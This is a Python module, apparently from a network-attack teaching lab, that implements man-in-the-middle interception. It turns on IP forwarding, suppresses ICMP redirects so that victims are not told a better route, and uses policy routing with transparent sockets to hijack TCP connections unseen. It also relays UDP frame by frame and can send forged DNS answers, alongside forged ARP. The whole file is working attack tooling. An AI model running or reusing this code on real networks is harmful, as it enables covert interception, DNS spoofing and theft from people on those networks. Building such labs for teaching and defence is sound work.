"""Taking, out of all that flows through, what an attack wants to hold in its own hands; the kernel forwards the rest.

Policy routing and IP_TRANSPARENT hand over TCP connections: nothing is installed, and both ends keep seeing each
other's addresses. Datagrams are carried frame by frame.
"""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from typing import Any, Final

from attacks.packets import Packet, dissected
from common import frames
from common.dns import PORT as DNS_PORT
from common.errors import LabError
from common.hosts import connected
from common.lan import LanHost
from common.loopback import Intercepted, InterceptTcp, InterceptUdp
from common.session import Address

TABLE: Final = "100"
MAX_FRAME: Final = 1 << 16

Forge = Callable[[bytes], bytes]
"""Gets a DNS query, returns what it is answered with; nothing where the query may go on."""


@contextlib.contextmanager
def forwarding(host: LanHost) -> Iterator[None]:
    """Pass on what comes by and is meant for others, as a router does."""
    for interface in ("all", "eth0"):
        host.sysctl(f"ipv4/conf/{interface}/send_redirects", "0")  # do not tell the victims a better way
        host.sysctl(f"ipv4/conf/{interface}/rp_filter", "0")
    host.sysctl("ipv4/ip_forward", "1")
    try:
        yield
    finally:
        host.sysctl("ipv4/ip_forward", "0")


@contextlib.asynccontextmanager
async def connections(host: LanHost, server: Address, tcp: InterceptTcp) -> AsyncIterator[None]:
    """Take every TCP connection to the server's port that comes by.

    server: its address and port. A client that dialled this address is carried on under its own; one that was told
    that the server is here is carried on under ours, since the server's answers have to find the way back.
    """
    port = server[1]
    rules = [
        ["pref", "10", "iif", "eth0", "ipproto", "tcp", end, str(port), "lookup", TABLE] for end in ("dport", "sport")
    ]
    host.run("ip", "route", "add", "local", "0.0.0.0/0", "dev", "lo", "table", TABLE)
    for rule in rules:
        host.run("ip", "rule", "add", *rule)
    listener = host.make(socket.SOCK_STREAM, transparent=True)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", port))
    listener.listen()
    listener.setblocking(False)
    accepting = asyncio.create_task(_accept(host, listener, server, tcp))
    try:
        yield
    finally:
        accepting.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await accepting
        listener.close()
        for rule in rules:
            host.run("ip", "rule", "del", *rule)
        host.run("ip", "route", "flush", "table", TABLE)


async def _accept(host: LanHost, listener: socket.socket, true_server: Address, tcp: InterceptTcp) -> None:
    async def hand_over(sock: socket.socket, client: Address) -> None:
        dialled: Address = sock.getsockname()  # a transparent socket's own address is the one that was dialled
        lured = dialled[0] == host.address

        async def dial() -> socket.socket:
            onward = host.make(socket.SOCK_STREAM, transparent=True)
            onward.bind((host.address if lured else client[0], 0))
            return await connected(onward, *(true_server if lured else dialled))

        with sock:
            sock.setblocking(False)
            await tcp(Intercepted(sock, client, true_server if lured else dialled, dial))

    async with tasks() as start:
        while True:
            sock, client = await asyncio.get_running_loop().sock_accept(listener)
            start(hand_over(sock, client))


@contextlib.contextmanager
def datagrams(host: LanHost, cards: dict[str, str], udp: InterceptUdp, forge: Forge | None = None) -> Iterator[None]:
    """Let the kernel forward no UDP; carry it by hand, frame by frame, through `udp`. DNS goes on untouched, or is
    answered where there is a `forge`.

    cards: the true cards, by address. A datagram to ourselves is for a member who was announced under our address:
    it goes to whoever has its port.
    """
    card = host.packet_socket()
    own = bytes.fromhex(host.mac.replace(":", ""))

    def send(source: Address, target: Address, payload: bytes) -> None:
        onward = frames.datagram((source, target), payload)
        with contextlib.suppress(OSError):  # a card that is full loses frames
            card.send(frames.frame(host.mac, cards[target[0]], onward))

    def carry(packet: Packet) -> None:
        payload, source, target = packet.data, packet.source, packet.target
        if forge and target[1] == DNS_PORT and (forged := forge(payload)):
            send(target, source, forged)
            return
        lured = target[0] == host.address
        if lured and DNS_PORT in (source[1], target[1]):
            return  # an answer to a question of our own
        for address in [a for a in cards if a != source[0]] if lured else [target[0]]:
            if address in cards:
                dns = DNS_PORT in (source[1], target[1])
                carried = payload if dns else udp(payload, source, (address, target[1]))
                if carried is not None:
                    send(source, (address, target[1]), carried)

    def read() -> None:
        """All that has come by, since most of it, forged ARP and the answers to it, is for nobody here."""
        with contextlib.suppress(BlockingIOError):
            while True:
                frame = card.recv(MAX_FRAME)
                packet = dissected(frame) if frame[:6] == own else None
                if packet and packet.transport == "UDP" and packet.source[0] in cards:
                    carry(packet)

    rule = ["pref", "9", "iif", "eth0", "ipproto", "udp", "blackhole"]
    host.run("ip", "rule", "add", *rule)
    asyncio.get_running_loop().add_reader(card, read)
    try:
        yield
    finally:
        asyncio.get_running_loop().remove_reader(card)
        card.close()
        host.run("ip", "rule", "del", *rule)


@contextlib.asynccontextmanager
async def tasks() -> AsyncIterator[Callable[[Coroutine[Any, Any, None]], None]]:
    """Start tasks; end those that still run when the block ends."""
    running: set[asyncio.Task[None]] = set()

    def start(work: Coroutine[Any, Any, None]) -> None:
        running.add(asyncio.create_task(work))

    try:
        yield start
    finally:
        for task in running:
            task.cancel()
        for result in await asyncio.gather(*running, return_exceptions=True):
            if isinstance(result, Exception) and not isinstance(result, LabError):
                raise result
